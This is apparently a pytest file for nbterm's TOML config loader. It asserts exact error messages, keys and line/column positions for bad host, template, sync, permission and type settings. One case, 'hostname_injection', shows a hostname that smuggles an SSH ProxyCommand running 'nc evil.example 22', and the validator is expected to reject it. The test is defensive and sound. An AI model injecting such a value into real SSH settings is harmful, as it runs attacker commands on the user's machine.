"""Each bad input has its own fixture file; the loader must say exactly what and where."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from nbterm.config import ConfigError, load_config, parse_config

BAD = Path(__file__).resolve().parent.parent / "data" / "bad_configs"

# file stem -> (dotted key, exact message, line, column); "{dir}" is the folder of the copy.
EXPECTED: dict[str, tuple[str, str, int | None, int | None]] = {
    "syntax_error": ("", "TOML syntax error: Expected '=' after a key in a key/value pair", 4, 6),
    "unknown_key": (
        "templates.gpu.instnace_type",
        "unknown key 'instnace_type'; did you mean 'instance_type'?",
        3,
        1,
    ),
    "missing_template": (
        "hosts.gpu.template",
        "no template named 'gpu-large' (templates: gpu)",
        3,
        12,
    ),
    "sync_unknown_host": ("sync[0].host", "no host named 'lba'; did you mean 'lab'?", 5, 8),
    "port_out_of_range": ("hosts.lab.port", "port must be between 1 and 65535, got 70000", 3, 8),
    "duplicate_local_port": (
        "hosts.b.jupyter.local_port",
        "local port 8200 is already used by host 'a'; each host's tunnel needs its own port",
        7,
        26,
    ),
    "missing_identity_file": (
        "defaults.identity_file",
        "no such private key: {dir}/keys/no-such-key "
        "(create one with: ssh-keygen -t ed25519 -f {dir}/keys/no-such-key)",
        2,
        17,
    ),
    "key_too_open": (
        "hosts.lab.identity_file",
        "permissions 0644 for {dir}/keys/open-key are too open: a private key must not be "
        "accessible by group or others (OpenSSH refuses it too); "
        "run: chmod 600 {dir}/keys/open-key",
        3,
        17,
    ),
    "config_writable_by_others": (
        "",
        "permissions 0666 are too open: the file is writable by group or others, who could "
        "point your hosts elsewhere (OpenSSH refuses such a config too); "
        "run: chmod go-w {dir}/config_writable_by_others.toml",
        None,
        None,
    ),
    "wrong_type": ("jupyter.remote_port", "expected an integer, got a string ('8888')", 2, 15),
    "hostname_and_instance": (
        "hosts.gpu",
        "set either hostname (a plain SSH host) or instance/template (an EC2 instance), not both",
        1,
        1,
    ),
    "host_without_address": (
        "hosts.lab",
        'say where this host is: hostname = "..." for a plain SSH host, or instance = "..." / '
        'template = "..." for an EC2 instance',
        1,
        1,
    ),
    "hostname_injection": (
        "hosts.lab.hostname",
        "expected a host name or address without spaces or quotes, "
        "got 'lab.example.org\\n    ProxyCommand nc evil.example 22'",
        2,
        12,
    ),
    "max_price_without_spot": (
        "templates.cpu.max_price",
        "max_price only applies to spot instances: add spot = true",
        4,
        1,
    ),
    "bad_host_name": (
        'hosts."my box"',
        "the name 'my box' may only contain letters, digits, '.', '_' and '-' "
        "(and must start with a letter or digit)",
        1,
        1,
    ),
    "two_rules_one_folder": (
        "sync[1].local",
        "sync[0] already pulls into {home}/work: two rules writing one folder would overwrite "
        "each other's files",
        12,
        9,
    ),
}


def test_every_fixture_file_has_an_expectation() -> None:
    assert sorted(path.stem for path in BAD.glob("*.toml")) == sorted(EXPECTED)


def _copy_case(stem: str, tmp_path: Path) -> Path:
    target = tmp_path / f"{stem}.toml"
    shutil.copy(BAD / f"{stem}.toml", target)
    target.chmod(0o600)
    if stem == "key_too_open":
        (tmp_path / "keys").mkdir()
        key = tmp_path / "keys" / "open-key"
        key.write_text("not really a key\n")
        key.chmod(0o644)
    if stem == "config_writable_by_others":
        target.chmod(0o666)
    return target


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_bad_config_is_rejected_with_its_place(
    stem: str, tmp_path: Path, isolated_home: Path
) -> None:
    path = _copy_case(stem, tmp_path)
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    key, message, line, column = EXPECTED[stem]
    problem = caught.value.first
    assert len(caught.value.problems) == 1, caught.value.render()
    assert problem.key == key
    assert problem.message == message.format(dir=tmp_path, home=isolated_home)
    assert (problem.line, problem.column) == (line, column)
    rendered = str(caught.value)
    assert rendered.startswith(str(path))
    if line is not None and column is not None:
        source_line = path.read_text().splitlines()[line - 1]
        assert problem.source_line == source_line
        assert f"{path}:{line}:{column}:" in rendered
        assert f"  {line} | {source_line}" in rendered
        caret_line = rendered.splitlines()[2]
        assert caret_line.endswith("^")
        assert caret_line.index("^") - caret_line.index("|") - 2 == column - 1


def test_all_problems_are_reported_in_file_order(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_text(
        '[jupyter]\nremote_port = "8888"\n\n[hosts.a]\nhostname = "a"\nprot = 22\n'
        '[templates.t]\nami = "nope"\ninstance_type = "t3.micro"\n'
    )
    path.chmod(0o600)
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    problems = caught.value.problems
    assert [p.key for p in problems] == ["jupyter.remote_port", "hosts.a.prot", "templates.t.ami"]
    assert problems[1].message == "unknown key 'prot'; did you mean 'port'?"
    assert problems[2].message == ("expected an AMI id such as ami-0abcdef1234567890, got 'nope'")
    assert str(caught.value).endswith(f"3 problems in {path}")


def test_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_bytes(b'[hosts.a]\nhostname = "\xff"\n')
    path.chmod(0o600)
    with pytest.raises(ConfigError, match=r"not UTF-8 text \(byte 22\)"):
        load_config(path)


@pytest.mark.parametrize("stem", ["syntax_error", "unknown_key", "port_out_of_range"])
def test_cli_reports_a_bad_config_with_exit_2_and_no_traceback(stem: str, tmp_path: Path) -> None:
    path = _copy_case(stem, tmp_path)
    done = subprocess.run(
        [sys.executable, "-m", "nbterm", "--config", str(path), "config", "check"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2
    assert done.stdout == ""
    assert "Traceback" not in done.stderr
    _key, _message, line, column = EXPECTED[stem]
    assert done.stderr.startswith("nbterm: invalid config\n")
    assert f"{path}:{line}:{column}: " in done.stderr


# Inline cases for what the schema's types and rules say; (config text, dotted key, message).
TYPE_CASES = [
    ('[defaults]\nport = true\n', "defaults.port", "expected an integer, got a boolean (True)"),
    ("[defaults]\nport = 22.0\n", "defaults.port", "expected an integer, got a number (22.0)"),
    ("[defaults]\nconnect_timeout = 0\n", "defaults.connect_timeout",
     "must be greater than 0, got 0"),
    ("[aws]\nconsole_key_wait = -1\n", "aws.console_key_wait", "must be at least 0, got -1"),
    ('[aws]\nendpoint_url = "ftp://x"\n', "aws.endpoint_url",
     "expected an http:// or https:// URL, got 'ftp://x'"),
    ('[aws]\nregion = ""\n', "aws.region", "must not be empty"),
    ("jupyter = 5\n", "jupyter", "expected a table, got an integer (5)"),
    ('[hosts.a]\nhostname = "a"\njupyter = "x"\n', "hosts.a.jupyter",
     "expected a table, got a string ('x')"),
    ('hosts = [1]\n', "hosts", "expected a table, got an array ([1])"),
    ('[hosts.a]\nhostname = "a\\n"\n', "hosts.a.hostname",
     "expected a host name or address without spaces or quotes, got 'a\\n'"),
    ('[hosts.a]\nhostname = "a"\nuser = "me you"\n', "hosts.a.user",
     "expected a user name without spaces or quotes, got 'me you'"),
    ('[hosts.a]\nhostname = "a"\naddress = "b"\n', "hosts.a",
     "address only applies to EC2 hosts; a plain host uses hostname"),
    ('[hosts.a]\nhostname = "a"\njupyter = { tmux_session = "my session" }\n',
     "hosts.a.jupyter.tmux_session",
     "expected a name of letters, digits, '.', '_' and '-', got 'my session'"),
    ('[hosts.' + "a" * 65 + ']\nhostname = "a"\n', "hosts." + "a" * 65,
     f"the name {'a' * 65!r} is too long (at most 64 characters)"),
    ('[templates.t]\nami = "ami-1"\ninstance_type = "t3.micro"\nspot = true\nmax_price = "0.5"\n',
     "templates.t.max_price", "expected a number, got a string ('0.5')"),
    ('[templates.t]\nami = "ami-1"\ninstance_type = "t3.micro"\nspot = true\nmax_price = 0\n',
     "templates.t.max_price", "must be greater than 0, got 0.0"),
    ('[templates.t]\nami = "ami-1"\ninstance_type = "t3.micro"\nsecurity_group_ids = "sg-1"\n',
     "templates.t.security_group_ids", "expected an array, got a string ('sg-1')"),
    ('[templates.t]\nami = "ami-1"\ninstance_type = "t3.micro"\nsecurity_group_ids = ["sg-1", 2]\n',
     "templates.t.security_group_ids[1]", "expected a string, got an integer (2)"),
    ('[templates.t]\nami = "ami-1"\ninstance_type = "t3.micro"\ntags = { team = 1 }\n',
     "templates.t.tags.team", "expected a string, got an integer (1)"),
    ('[templates.t]\nami = "ami-1"\n', "templates.t.instance_type", "required key is missing"),
    ('[[sync]]\nhost = "a"\nremote = "r"\nlocal = "l"\ngit_commit = "yes"\n',
     "sync[0].git_commit", "expected true or false, got a string ('yes')"),
    ('[keymap]\n"up" = "u"\n', 'keymap.up',
     "expected a binding id such as host.up (see the help screen) here, got 'up'"),
    ("[keymap]\n\"host.up\" = 1\n", 'keymap."host.up"', "expected a string, got an integer (1)"),
    ("when = 2026-01-01\n", "when",
     "unknown key 'when' (known keys: aws, defaults, hosts, jupyter, keymap, notify, sync, "
     "templates)"),
    ("[defaults]\nport = 2026-01-01\n", "defaults.port",
     "expected an integer, got a date (datetime.date(2026, 1, 1))"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "key", "message"), TYPE_CASES, ids=[c[1] for c in TYPE_CASES])
def test_types_and_rules_are_explained(text: str, key: str, message: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_config(text, tmp_path / "config.toml", check_files=False)
    problems = [(p.key, p.message) for p in caught.value.problems]
    assert problems == [(key, message)]
    assert caught.value.first.line is not None  # every one is placed in the file


def test_a_misspelt_required_key_is_reported_once(tmp_path: Path) -> None:
    text = '[templates.t]\nami = "ami-1"\ninstance_typ = "t3.micro"\n'
    with pytest.raises(ConfigError) as caught:
        parse_config(text, tmp_path / "config.toml", check_files=False)
    assert [(p.key, p.message) for p in caught.value.problems] == [
        ("templates.t.instance_typ", "unknown key 'instance_typ'; did you mean 'instance_type'?")
    ]
